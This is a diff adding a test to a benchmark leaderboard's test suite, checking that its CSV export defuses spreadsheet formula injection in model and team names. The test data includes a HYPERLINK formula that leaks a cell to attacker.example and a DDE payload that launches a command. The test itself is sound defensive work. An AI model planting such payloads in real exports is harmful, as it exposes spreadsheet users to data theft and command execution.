@@ -550,3 +550,31 @@ def test_the_query_count_does_not_grow_with_the_board(client, medvidbench, suffi
 
 def test_the_canonical_parameters_are_the_query_serializers_fields():
     assert list(RankingsQuerySerializer().fields) == list(JSON_QUERY)
+
+
+FORMULAS = [
+    '=HYPERLINK("http://attacker.example/?"&A1,"Click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+]
+
+
+def test_the_csv_neutralises_formulas_in_text_cells_and_the_json_keeps_them(client, medvidbench):
+    for number, formula in enumerate(FORMULAS):
+        scored_entry(medvidbench, formula, values(CVS_acc=0.1 * (number + 1)), team_name=formula)
+    services.recompute_board(medvidbench)
+
+    csv_text = client.get(rankings_url(medvidbench, ".csv"), {"board": "community"}).content
+    header, *lines = parse_csv(csv_text)
+    rows = get_rows(client, medvidbench, board="community")
+
+    by_column = [dict(zip(header, line, strict=True)) for line in lines]
+    # A leading quote, and the pipe escaped, as defusedcsv writes them.
+    expected = {"'" + formula.replace("|", "\\|") for formula in FORMULAS}
+    assert {cells["model"] for cells in by_column} == expected
+    assert {cells["team"] for cells in by_column} == expected
+    assert {row["model"] for row in rows} == set(FORMULAS)
+    assert {row["team"] for row in rows} == set(FORMULAS)
+    # Numbers are never quoted: a negative tiebreaker or metric stays a number.
+    assert all(cells["CVS_acc"][0].isdigit() for cells in by_column)
